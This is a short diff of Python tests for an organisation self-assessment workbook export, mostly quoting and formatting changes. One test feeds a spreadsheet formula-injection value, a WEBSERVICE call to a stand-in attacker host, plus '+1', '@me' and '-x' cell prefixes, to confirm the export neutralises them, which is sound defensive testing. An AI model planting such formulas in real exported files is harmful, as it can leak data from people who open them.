@@ -83,7 +83,7 @@ def test_the_about_sheet_names_the_organisation_assessment_and_framework(full):
 
 def test_a_formula_in_evidence_or_an_action_cannot_run_in_the_workbook(full):
     response = full.responses.order_by("area__position").first()
-    response.evidence = "=WEBSERVICE(\"https://evil.example\")"
+    response.evidence = '=WEBSERVICE("https://evil.example")'
     response.save()
     action = full.actions.first()
     action.title, action.owner_name, action.description = "+1", "@me", "-x"
@@ -113,4 +113,6 @@ def test_any_member_downloads_the_workbook(client, full, viewer):
     response = client.get(report_url("workbook", full))
     assert response.status_code == 200
     assert response["Content-Type"] == wbk.CONTENT_TYPE
-    assert response["Content-Disposition"] == f'attachment; filename="{full.organisation.slug}-self-assessment-2026.xlsx"'
+    assert (
+        response["Content-Disposition"] == f'attachment; filename="{full.organisation.slug}-self-assessment-2026.xlsx"'
+    )
